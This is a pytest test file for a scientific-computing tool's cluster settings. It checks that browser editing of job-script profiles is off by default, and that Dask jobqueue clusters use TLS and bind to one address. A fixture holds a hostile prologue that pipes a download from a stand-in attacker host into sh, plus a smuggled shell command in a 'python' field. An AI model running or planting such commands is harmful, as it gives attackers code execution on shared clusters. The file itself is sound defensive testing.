"""Cluster profiles cannot be turned into a shell from the browser, and jobqueue clusters talk
TLS on the interface the workers need (reliability issue: "anyone who can open the dashboard
gets a shell on the cluster").

- Settings → Cluster is read-only unless the server runs with OPTIPOLY_ALLOW_PROFILE_EDITING=1;
  a hostile prologue cannot be saved through
  :func:`core.execution.cluster_profiles.save_cluster_profile`
  while editing is off.
- Named profiles come from the owner's jobqueue.yaml (dask-jobqueue layout) and are selected
  by name in the campaign config.
- :func:`core.execution.cluster.cluster_spec` (the kwargs
  :func:`core.execution.cluster.make_cluster` passes, no
  cluster started) gives every jobqueue profile ``Security`` with TLS, protocol ``tls://``, a
  scheduler bound to one address (never 0.0.0.0) and a loopback dashboard; local stays on
  127.0.0.1.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from core.execution.cluster import ClusterConfigError, ClusterProfile, cluster_spec, job_script
from core.execution.cluster_profiles import (PROFILE_EDITING_ENV, ProfileEditingDisabled,
                                             ProfileFileError, check_profile_change,
                                             load_profile_file, named_profile,
                                             profile_editing_allowed, save_cluster_profile)
from core.store import Store
from tests.helpers import REPO, app_test, serve_seeded

HOSTILE = {"profile": "slurm", "queue": "debug",
           "job_script_prologue": ["curl -s http://attacker.invalid/x | sh"],
           "python": "/bin/sh -c 'id > /tmp/pwned' #"}
YAML = """\
jobqueue:
  slurm:                      # named after its scheduler
    name: dask-worker         # set by optipoly: ignored
    cores: 2
    memory: 8GB
    walltime: "02:00:00"
    queue: compute
    job-script-prologue: ["module load lammps"]
    interface: null           # empty values (dask-jobqueue's defaults) are ignored
    scheduler-options: {}
  big-nodes:
    profile: pbs
    cores: 4
    memory: 16GB
    walltime: "04:00:00"
    project: chem42           # dask-jobqueue's name for the account
    scheduler-host: 10.1.0.5
"""


@pytest.fixture()
def jobqueue_yaml(tmp_path, monkeypatch):
    path = tmp_path / "jobqueue.yaml"
    path.write_text(YAML)
    path.chmod(0o644)
    monkeypatch.setenv("OPTIPOLY_JOBQUEUE_YAML", str(path))
    return path


@pytest.fixture()
def store(tmp_path, monkeypatch):
    monkeypatch.delenv(PROFILE_EDITING_ENV, raising=False)
    s = Store(tmp_path / "s.db")
    s.create_campaign("c", {"preset": "smoke"}, actor="test")
    return s


# --------------------------------------------------------------------------- TLS and binding
@pytest.mark.parametrize("kind", ["slurm", "pbs", "sge", "lsf"])
def test_jobqueue_cluster_spec_has_tls_and_a_bound_scheduler(kind, tmp_path):
    from distributed.security import Security

    cls, kw = cluster_spec({"profile": kind, "scheduler_host": "10.1.2.3"},
                           local_directory=str(tmp_path / ".dask"))
    assert cls.__name__.lower().startswith(kind)
    sec = kw["security"]
    assert isinstance(sec, Security) and sec.require_encryption
    assert "BEGIN CERTIFICATE" in sec.tls_scheduler_cert and "PRIVATE KEY" in sec.tls_worker_key
    assert kw["protocol"] == "tls://"
    opts = kw["scheduler_options"]
    assert opts["host"] == "10.1.2.3" and "interface" not in opts
    assert opts["dashboard_address"].startswith("127.0.0.1:")
    assert kw["shared_temp_directory"] == str(tmp_path / ".dask")  # worker cert files, 0600
    assert "--no-dashboard" in kw["worker_extra_args"]
    assert "0.0.0.0" not in repr({k: v for k, v in kw.items() if k != "security"})


def test_jobqueue_scheduler_binds_the_workers_interface_or_the_advertised_address(monkeypatch):
    from distributed.security import Security

    sec = Security.temporary()
    _, kw = cluster_spec({"profile": "slurm", "interface": "ib0"}, security=sec)
    assert kw["scheduler_options"] == {"dashboard_address": "127.0.0.1:8787", "interface": "ib0"}
    assert kw["interface"] == "ib0" and kw["security"] is sec
    # nothing given: the address dask would advertise (get_ip), never every interface
    import core.execution.cluster as cluster

    monkeypatch.setattr(cluster, "_default_scheduler_host", lambda: "10.9.8.7")
    _, kw = cluster_spec({"profile": "pbs"}, security=sec)
    assert kw["scheduler_options"]["host"] == "10.9.8.7"


@pytest.mark.parametrize("bad", ["0.0.0.0", "::", "", "a b", "x;rm"])
def test_scheduler_host_must_be_one_address(bad):
    with pytest.raises(ClusterConfigError):
        ClusterProfile(profile="slurm", scheduler_host=bad)


def test_local_cluster_spec_stays_on_loopback():
    from distributed import LocalCluster

    cls, kw = cluster_spec({"profile": "local", "n_workers": 1})
    assert cls is LocalCluster
    assert kw["host"] == "127.0.0.1" and kw["protocol"] == "tcp://"
    assert "security" not in kw
    assert "host='127.0.0.1'" in job_script({"profile": "local"})


def test_job_script_preview_shows_the_tls_options():
    s = job_script({"profile": "slurm", "queue": "debug"})
    assert "tls://SCHEDULER-ADDRESS" in s
    assert "--protocol tls://" in s and "--tls-cert" in s and "--tls-key" in s
    assert "--no-dashboard" in s


# --------------------------------------------------------------------------- editing policy
def test_profile_editing_is_off_unless_the_server_allows_it():
    assert not profile_editing_allowed({})
    assert not profile_editing_allowed({PROFILE_EDITING_ENV: "0"})
    assert not profile_editing_allowed({PROFILE_EDITING_ENV: ""})
    for on in ("1", "true", "YES", "on"):
        assert profile_editing_allowed({PROFILE_EDITING_ENV: on})


def test_a_hostile_prologue_from_the_browser_is_not_saved_when_editing_is_off(store):
    before = store.get_campaign("c")["config"]["cluster"]
    n_audit = len(store.audit_log("c"))
    with pytest.raises(ProfileEditingDisabled, match=PROFILE_EDITING_ENV):
        save_cluster_profile(store, "c", HOSTILE, actor="dashboard")  # env unset: off
    with pytest.raises(ProfileEditingDisabled):
        save_cluster_profile(store, "c", {**HOSTILE, "profile": "local"}, actor="dashboard")
    with pytest.raises(ProfileEditingDisabled):  # the local profile with other settings
        save_cluster_profile(store, "c", {"profile": "local", "n_workers": 500},
                             actor="dashboard")
    assert store.get_campaign("c")["config"]["cluster"] == before
    assert len(store.audit_log("c")) == n_audit  # nothing written
    # the built-in local profile is always allowed; inline profiles only with the option
    assert save_cluster_profile(store, "c", {"profile": "local"}, actor="dashboard") == \
        {"profile": "local", "n_workers": 2, "threads_per_worker": 1}
    saved = save_cluster_profile(store, "c", HOSTILE, actor="owner", allow_editing=True)
    assert store.get_campaign("c")["config"]["cluster"]["job_script_prologue"] == \
        saved["job_script_prologue"]


# --------------------------------------------------------------------------- named profiles
def test_named_profiles_follow_the_jobqueue_yaml_layout(jobqueue_yaml):
    profs = load_profile_file()
    assert set(profs) == {"slurm", "big-nodes"}
    assert profs["slurm"] == {"profile": "slurm", "cores": 2, "memory": "8GB",
                              "walltime": "02:00:00", "queue": "compute",
                              "job_script_prologue": ["module load lammps"]}
    big = ClusterProfile.from_dict({"name": "big-nodes"})  # a reference in a campaign config
    assert (big.profile, big.account, big.scheduler_host) == ("pbs", "chem42", "10.1.0.5")
    assert "module load lammps" in job_script({"name": "slurm"})
    with pytest.raises(ProfileFileError, match="no cluster profile named 'gpu'.*big-nodes"):
        named_profile("gpu")


def test_a_campaign_selects_a_named_profile_even_with_editing_off(store, jobqueue_yaml):
    assert check_profile_change({"name": "slurm"}, allow_editing=False) == {"name": "slurm"}
    save_cluster_profile(store, "c", {"name": "big-nodes"}, actor="dashboard")
    cfg = store.get_campaign("c")["config"]
    assert cfg["cluster"] == {"name": "big-nodes"}
    from core.execution.cluster import validate_profile

    assert validate_profile(cfg["cluster"], "smoke").profile == "pbs"
    with pytest.raises(ProfileFileError):
        save_cluster_profile(store, "c", {"name": "nope"}, actor="dashboard")


@pytest.mark.parametrize("content,match", [
    ("jobqueue:\n  slurm:\n    cores: 2\n    worker-command: x\n    job-cpu: 4\n",
     "'job-cpu' is not supported"),
    ("jobqueue:\n  gpu:\n    cores: 2\n", "profile: slurm"),
    ("jobqueue:\n  slurm:\n    memory: lots\n", "memory must look like"),
    ("jobqueue: [1, 2\n", "not valid YAML"),
])
def test_a_bad_profile_file_is_named_with_its_section(jobqueue_yaml, content, match):
    jobqueue_yaml.write_text(content)
    with pytest.raises(ProfileFileError, match=match) as err:
        load_profile_file()
    assert str(jobqueue_yaml) in str(err.value)


def test_a_profile_file_others_can_write_is_refused(jobqueue_yaml):
    jobqueue_yaml.chmod(0o666)
    with pytest.raises(ProfileFileError, match="writable by group or others"):
        load_profile_file()
    jobqueue_yaml.chmod(0o600)
    assert load_profile_file()


def test_missing_profile_file_means_no_named_profiles(tmp_path, monkeypatch):
    monkeypatch.setenv("OPTIPOLY_JOBQUEUE_YAML", str(tmp_path / "none.yaml"))
    assert load_profile_file() == {}
    monkeypatch.delenv("OPTIPOLY_JOBQUEUE_YAML")
    monkeypatch.setenv("DASK_CONFIG", str(tmp_path))
    from core.execution.cluster_profiles import jobqueue_yaml_path

    assert jobqueue_yaml_path() == tmp_path / "jobqueue.yaml"


def test_cli_selects_a_named_profile(store, jobqueue_yaml):
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    res = subprocess.run([sys.executable, "-m", "core.campaign", "--db", str(store.path),
                          "cluster", "c", "--use", "slurm"], capture_output=True, text=True,
                         env=env, cwd=REPO, timeout=120)
    assert res.returncode == 0, res.stderr
    assert "named profile 'slurm'" in res.stdout and '"queue": "compute"' in res.stdout
    assert store.get_campaign("c")["config"]["cluster"] == {"name": "slurm"}
    res = subprocess.run([sys.executable, "-m", "core.campaign", "--db", str(store.path),
                          "cluster", "c", "--use", "gpu"], capture_output=True, text=True,
                         env=env, cwd=REPO, timeout=120)
    assert res.returncode == 2 and len(res.stderr.strip().splitlines()) == 1
    assert "Traceback" not in res.stderr


# --------------------------------------------------------------------------- Settings page
def _settings(monkeypatch, tmp_path):
    pytest.importorskip("streamlit.testing.v1")
    info = serve_seeded(tmp_path, monkeypatch)
    at = app_test().run()
    at.switch_page("pages/settings.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at, info["store"]


def _buttons(at) -> dict:
    return {b.key: b for b in at.get("button") if getattr(b, "key", None)}


def test_settings_cluster_profile_is_read_only_by_default(tmp_path, monkeypatch,
                                                          jobqueue_yaml):
    monkeypatch.delenv(PROFILE_EDITING_ENV, raising=False)
    at, store = _settings(monkeypatch, tmp_path)
    assert not [t for t in at.text_area if str(t.key).startswith("cl_json")]
    assert "cl_save" not in _buttons(at)
    assert not [s for s in at.selectbox if s.key == "cl_profile"]
    info = " ".join(i.value for i in at.info)
    assert "Editing cluster profiles in the browser is off" in info
    assert PROFILE_EDITING_ENV in info and str(jobqueue_yaml) in info
    shown = [json.loads(c.value) for c in at.code if c.language == "json"]
    assert {"profile": "local", "n_workers": 2} .items() <= shown[0].items()
    # switching to a named profile of the owner's file is allowed
    at.selectbox(key="cl_use_demo").select("big-nodes").run()
    _buttons(at)["cl_use_save"].click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert store.get_campaign("demo")["config"]["cluster"] == {"name": "big-nodes"}
    assert any('"account": "chem42"' in c.value for c in at.code)  # shown read-only
    assert any("#PBS" in c.value for c in at.code)  # its job script


def test_settings_cluster_profile_is_editable_with_the_option(tmp_path, monkeypatch):
    monkeypatch.setenv(PROFILE_EDITING_ENV, "1")
    at, store = _settings(monkeypatch, tmp_path)
    at.selectbox(key="cl_profile").select("slurm").run()
    box = at.text_area(key="cl_json_demo_slurm")
    prof = {**json.loads(box.value), "queue": "debug",
            "job_script_prologue": ["module load lammps"]}
    box.input(json.dumps(prof)).run()
    assert not at.error, [e.value for e in at.error]
    _buttons(at)["cl_save"].click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    cl = store.get_campaign("demo")["config"]["cluster"]
    assert cl["profile"] == "slurm" and cl["job_script_prologue"] == ["module load lammps"]
